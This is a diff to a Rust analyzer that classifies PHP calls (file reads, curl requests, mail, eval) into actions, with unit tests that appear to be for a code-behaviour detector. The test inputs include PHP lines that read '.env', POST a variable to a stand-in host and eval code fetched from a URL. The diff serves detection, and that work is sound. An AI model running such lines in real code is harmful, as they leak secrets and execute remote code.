@@ -10,11 +10,13 @@ pub(super) fn act(name: &str) -> Option<Act> {
             "pcntl_exec" => Act::File,
             "unlink" | "rmdir" => Act::Delete { recursive: false },
             "file_put_contents" | "touch" | "chmod" | "mkdir" => Act::Write,
-            "file_get_contents" | "readfile" | "file" => Act::Read,
+            "file_get_contents" | "readfile" | "file" => Act::ReadOrPost,
             "fopen" => Act::Open,
             "copy" | "symlink" | "link" => Act::Copy,
             "rename" => Act::Move,
             "curl_init" => Act::Fetch(""),
+            "mail" => Act::Fetch("POST"),
+            "curl_setopt" | "curl_setopt_array" => Act::SetOption,
             "fsockopen" | "stream_socket_client" => Act::Connect,
             "eval" | "assert" => Act::Eval,
             _ => return None,
@@ -45,6 +47,26 @@ mod tests {
             &["write /etc/hosts"],
         );
         check(Php, "echo file_get_contents('.env');", &["read .env"]);
+        check(
+            Php,
+            "file_get_contents('https://h.example', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $x]]));",
+            &["POST https://h.example sends"],
+        );
+        check(
+            Php,
+            "$c = curl_init('https://h.example'); curl_setopt($c, CURLOPT_POSTFIELDS, $x); curl_exec($c);",
+            &["GET https://h.example", "POST https://h.example sends"],
+        );
+        check(
+            Php,
+            "$c = curl_init('https://h.example'); curl_setopt($c, CURLOPT_TIMEOUT, 3); curl_exec($c);",
+            &["GET https://h.example"],
+        );
+        check(
+            Php,
+            "echo file_get_contents('https://h.example', false, stream_context_create(['http' => ['timeout' => 3]]));",
+            &["GET https://h.example"],
+        );
         check(
             Php,
             "eval(file_get_contents('https://h.example/x'));",
